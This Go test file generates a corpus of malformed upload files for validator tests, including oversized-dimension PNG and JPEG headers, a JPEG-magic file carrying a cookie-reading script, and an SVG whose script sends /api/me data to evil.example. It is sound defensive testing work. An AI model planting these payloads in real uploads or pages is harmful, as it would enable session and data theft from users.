package uploads_test

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"flag"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"os"
	"path/filepath"
	"testing"
)

var update = flag.Bool("update", false, "rewrite testdata/bad from the generators in corpus_test.go")

// badCorpus makes the committed files of testdata/bad, so they can be read
// (and remade with -update) rather than trusted as opaque bytes.
func badCorpus() map[string][]byte {
	files := map[string][]byte{}

	// A real JPEG cut in half.
	img := image.NewRGBA(image.Rect(0, 0, 96, 64))
	for y := 0; y < 64; y++ {
		for x := 0; x < 96; x++ {
			img.Set(x, y, color.RGBA{uint8(x * 37 % 256), uint8(y * 53 % 256), uint8((x ^ y) * 7), 255})
		}
	}
	var jb bytes.Buffer
	jpeg.Encode(&jb, img, &jpeg.Options{Quality: 90})
	files["truncated.jpg"] = jb.Bytes()[:jb.Len()/2]

	// A PNG whose IHDR claims 100,000 × 100,000 with a valid CRC.
	var pb bytes.Buffer
	pb.WriteString("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], 100000)
	binary.BigEndian.PutUint32(ihdr[4:], 100000)
	ihdr[8], ihdr[9] = 8, 2 // 8-bit RGB
	pngChunk(&pb, "IHDR", ihdr)
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(make([]byte, 1+3*16))
	zw.Close()
	pngChunk(&pb, "IDAT", z.Bytes())
	pngChunk(&pb, "IEND", nil)
	files["huge-dimensions.png"] = pb.Bytes()

	// A JPEG whose frame header claims 65,000 × 65,000.
	big := append([]byte{}, jb.Bytes()...)
	for i := 2; i+9 < len(big); i++ {
		if big[i] == 0xFF && big[i+1] == 0xC0 {
			binary.BigEndian.PutUint16(big[i+5:], 65000)
			binary.BigEndian.PutUint16(big[i+7:], 65000)
			break
		}
	}
	files["huge-dimensions.jpg"] = big[:600]

	files["html-after-jpeg-magic.jpg"] = []byte("\xFF\xD8\xFF<html><body><script>alert(document.cookie)</script></body></html>\n")
	files["script.svg"] = []byte(`<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch('/api/me').then(r => r.text()).then(t => location = 'https://evil.example/?' + t)</script>
  <rect width="100" height="100" fill="red"/>
</svg>
`)
	files["text-renamed.jpg"] = []byte("这不是照片。This is a plain text file renamed to .jpg.\n")
	files["empty.jpg"] = []byte{}
	files["gif.gif"] = []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
	files["riff-garbage.webp"] = append([]byte("RIFF\x40\x00\x00\x00WEBPVP8 \x34\x00\x00\x00"), bytes.Repeat([]byte{0xAB}, 52)...)
	return files
}

func pngChunk(w *bytes.Buffer, typ string, data []byte) {
	binary.Write(w, binary.BigEndian, uint32(len(data)))
	w.WriteString(typ)
	w.Write(data)
	c := crc32.NewIEEE()
	c.Write([]byte(typ))
	c.Write(data)
	binary.Write(w, binary.BigEndian, c.Sum32())
}

// TestBadCorpusCurrent keeps testdata/bad equal to its generators.
func TestBadCorpusCurrent(t *testing.T) {
	for name, want := range badCorpus() {
		path := filepath.Join("testdata", "bad", name)
		if *update {
			if err := os.WriteFile(path, want, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		got, err := os.ReadFile(path)
		if err != nil {
			t.Errorf("%v (run go test -run TestBadCorpusCurrent -update)", err)
			continue
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s differs from its generator (run go test -run TestBadCorpusCurrent -update)", path)
		}
	}
}
